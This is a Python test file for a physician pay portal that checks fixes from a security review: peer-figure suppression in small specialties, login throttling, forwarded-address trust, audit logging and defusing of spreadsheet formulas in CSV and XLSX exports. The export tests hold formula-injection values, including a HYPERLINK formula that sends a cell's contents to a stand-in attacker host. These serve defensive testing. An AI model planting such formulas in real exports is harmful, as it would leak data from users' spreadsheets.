"""Fixes from a security review of the portal: peer figures in small specialties, concurrent
login guesses, forwarded client addresses, spreadsheet formulas in exports, audit rows of
refused and failed requests, and the portal database's file mode."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
import threading
from pathlib import Path

import httpx2
import pytest
from openpyxl import load_workbook

from paycascade.runner import run
from paycascade.web import PortalApp
from paycascade.web import data as web_data
from paycascade.web.data import MIN_PEERS, defuse_csv, percentile_position

from .conftest import LiveServer, Login, csrf_from, logged_in, new_client

# -- peers -------------------------------------------------------------------------------------


def test_peer_figures_need_at_least_eleven_clinicians() -> None:
    assert MIN_PEERS == 11
    assert percentile_position([0.1 * k for k in range(10)], 0.5) is None
    shown = percentile_position([0.1 * k for k in range(11)], 0.5)
    assert shown is not None and shown["peers"] == 11 and shown["median"] == 0.5


def test_small_specialties_show_no_peer_figures(
    app: PortalApp, logins: dict[str, Login], monkeypatch: pytest.MonkeyPatch
) -> None:
    # with two peers, mine and the median gave the other's figure: 2 × median − mine
    doc = logins["physician"]
    client = logged_in(app, doc)
    data = client.get(f"/api/statements/{doc[3]}").json()
    group = data["peer_group"]
    assert group["physicians"] < MIN_PEERS, "the demo specialty is expected to be small"
    assert group["min_peers"] == MIN_PEERS
    assert data["value_linked"]["peer"] is None
    for card in data["scorecards"]:
        assert card["composite_peer"] is None
        assert all(m["peer"] is None for m in card["measures"])
    page = client.get(f"/statements/{doc[3]}").text
    assert "peer comparisons are shown among 11 or more" in page
    assert "middle half of peers" not in page
    # the same statement where the threshold is met shows the figures
    monkeypatch.setattr(web_data, "MIN_PEERS", 1)
    shown = client.get(f"/api/statements/{doc[3]}").json()
    assert shown["value_linked"]["peer"]["peers"] == group["physicians"]
    assert "middle half of peers" in client.get(f"/statements/{doc[3]}").text


def test_a_measure_on_two_scorecards_counts_each_clinician_once() -> None:
    # six clinicians with bp_control on two scorecards counted as twelve peers, past the
    # threshold of eleven
    from paycascade.web.data import _peer_table

    def statement(k: int) -> dict[str, object]:
        card = {"composite": "0.5", "measures": [{"measure": "bp_control", "rate": f"0.{k}"}]}
        cards = [{**card, "scorecard": "panel"}, {**card, "scorecard": "quality"}]
        return {"specialty": "IM", "value_linked_share": "0.1", "scorecards": cards}

    peers = _peer_table({f"npi{k}": statement(k) for k in range(6)})["IM"]
    assert peers["rate:bp_control"] == [0.0, 0.1, 0.2, 0.3, 0.4, 0.5]
    assert percentile_position(peers["rate:bp_control"], 0.3) is None
    assert len(peers["composite:panel"]) == len(peers["value_linked_share"]) == 6


# -- login throttling --------------------------------------------------------------------------


def test_concurrent_attempts_are_counted_before_any_password_is_checked(
    app: PortalApp,
) -> None:
    results: list[bool] = []
    lock = threading.Lock()

    def attempt() -> None:
        ok = app.store.begin_attempt("someone", "10.0.0.1", 900, 5, 20)
        with lock:
            results.append(ok)

    threads = [threading.Thread(target=attempt) for _ in range(40)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results.count(True) == 5
    # per username from any address
    allowed = [app.store.begin_attempt("someone", f"10.0.1.{k}", 900, 5, 20) for k in range(30)]
    assert allowed.count(True) == 15  # 20 in all


def test_concurrent_wrong_passwords_get_five_checks_at_most(
    app: PortalApp, logins: dict[str, Login]
) -> None:
    user = logins["admin"]

    async def storm() -> list[int]:
        transport = httpx2.ASGITransport(app=app)
        async with httpx2.AsyncClient(transport=transport, base_url="http://testserver") as c:
            token = (await c.get("/api/login")).json()["csrf"]
            guesses = [f"wrong-{k}" for k in range(15)] + [user[1]]
            replies = await asyncio.gather(
                *(
                    c.post(
                        "/api/login",
                        json={"username": user[0], "password": pw},
                        headers={"x-csrf-token": token},
                    )
                    for pw in guesses
                )
            )
            return [r.status_code for r in replies]

    statuses = asyncio.run(storm())
    checked = [s for s in statuses if s != 429]
    assert len(checked) <= 5, statuses
    assert len(app.store.audit_rows(action="login_throttled")) == len(statuses) - len(checked)


def test_a_login_body_that_is_not_an_object_is_a_400_and_audited(app: PortalApp) -> None:
    client = new_client(app)
    token = client.get("/api/login").json()["csrf"]
    for body in ("[1]", '"abc"', "123", "null"):
        reply = client.post(
            "/api/login",
            content=body,
            headers={"x-csrf-token": token, "content-type": "application/json"},
        )
        assert reply.status_code == 400, body
        assert "JSON object" in reply.json()["error"]["message"]
    assert len(app.store.audit_rows(action="login_failed")) == 4


# -- forwarded addresses -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("trust", "recorded"), [(None, "127.0.0.1"), ("127.0.0.1", "198.51.100.9")]
)
def test_x_forwarded_for_is_believed_only_from_a_trusted_proxy(
    app: PortalApp, trust: str | None, recorded: str
) -> None:
    with LiveServer(app, trust_proxy=trust) as server, httpx2.Client(base_url=server.url) as c:
        token = c.get("/api/login").json()["csrf"]
        reply = c.post(
            "/api/login",
            json={"username": "nobody", "password": "wrong-password"},
            headers={"x-csrf-token": token, "x-forwarded-for": "198.51.100.9"},
        )
        assert reply.status_code == 401
    (row,) = app.store.audit_rows(action="login_failed")
    assert row["ip"] == recorded


# -- exports -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ('=HYPERLINK("http://evil.example/","x")', '\'=HYPERLINK("http://evil.example/","x")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-x", "'-x"),
        ("+1 555", "'+1 555"),
        ("\tcmd", "'\tcmd"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-Infinity", "'-Infinity"),
        ("-1_0", "'-1_0"),
        ("Dr = Smith", "Dr = Smith"),
    ],
)
def test_csv_exports_defuse_formulas_and_keep_numbers(value: str, exported: str) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([["npi", "name"], ["1", value]])
    out = list(csv.reader(io.StringIO(defuse_csv(buf.getvalue().encode()).decode())))
    assert out == [["npi", "name"], ["1", exported]]


def test_csv_export_without_formulas_is_the_run_file_byte_for_byte(app: PortalApp) -> None:
    run_ = app.runs.all()[0]
    body = (run_.folder / "statements.csv").read_bytes()
    assert defuse_csv(body) is body


def test_exports_of_a_formula_in_a_name_are_text(
    workspace: Path, logins: dict[str, Login], app: PortalApp
) -> None:
    path = workspace / "data" / "physicians.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    name_col = rows[0].index("name")
    evil = '=HYPERLINK("http://evil.example/?t="&F5,"Dr. Holt")'
    rows[1][name_col] = evil
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    run(workspace, None)
    client = logged_in(app, logins["analyst"])
    book = load_workbook(io.BytesIO(client.get("/export/payroll.xlsx").content))
    cells = [c for row in book["payroll"].iter_rows() for c in row if c.value == evil]
    assert len(cells) == 1 and cells[0].data_type == "s"
    exported = client.get("/export/statements.csv").text
    assert "'" + evil.replace('"', '""') in exported


# -- audit -----------------------------------------------------------------------------------------


def test_refused_and_failed_requests_leave_audit_rows(
    app: PortalApp, logins: dict[str, Login]
) -> None:
    npi = logins["physician"][3]
    anonymous = new_client(app)
    assert anonymous.get(f"/api/statements/{npi}").status_code == 401
    assert anonymous.get("/export/payroll.xlsx").status_code == 303
    analyst = logged_in(app, logins["analyst"])
    assert analyst.get("/export/statements.csv", params={"run": "nope"}).status_code == 404
    doc = logged_in(app, logins["physician"])
    assert doc.get(f"/api/statements/{logins['physician2'][3]}").status_code == 404
    admin = logged_in(app, logins["admin"])
    token = csrf_from(admin.get("/users").text)
    assert admin.post("/users/nobody/disable", data={"csrf": token}).status_code == 404
    assert (
        admin.post(f"/users/{logins['admin'][0]}/disable", data={"csrf": token}).status_code == 400
    )
    assert admin.post("/users/nobody/INJECTED", data={"csrf": token}).status_code in (404, 405)
    rows = {(r["action"], r["status"]) for r in app.store.audit_rows(limit=1000)}
    assert {
        ("unauthenticated:view_statement", 401),
        ("unauthenticated:export_payroll_xlsx", 303),
        ("export_statements_csv", 404),
        ("denied:view_statement", 404),
        ("user_disable", 404),
        ("user_disable", 400),
    } <= rows
    assert not any("INJECTED" in action for action, _ in rows)
    assert app.store.audit_rows(before=0) == []


def test_the_portal_database_is_readable_by_its_owner_only(app: PortalApp, workspace: Path) -> None:
    for name in ("portal.sqlite", "portal.sqlite-wal"):
        path = workspace / ".paycascade" / name
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, name
    assert os.access(workspace / ".paycascade" / "portal.sqlite", os.R_OK)


def test_paycascade_serve_starts_and_answers(workspace: Path) -> None:
    # the command itself, as a user starts it (its uvicorn import was once lost, and only the
    # tests' own server, not `paycascade serve`, was exercised)
    import socket
    import subprocess
    import sys
    import time

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    cli = Path(sys.executable).parent / "paycascade"  # the installed command
    command = [str(cli), "serve", str(workspace), "--port", str(port)]
    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                reply = httpx2.get(f"http://127.0.0.1:{port}/login", timeout=2)
                break
            except httpx2.TransportError:
                assert server.poll() is None, server.stdout.read().decode()  # type: ignore[union-attr]
                assert time.monotonic() < deadline, "the portal did not start"
                time.sleep(0.2)
        assert reply.status_code == 200
        assert "content-security-policy" in reply.headers
    finally:
        server.terminate()
        server.wait(timeout=20)
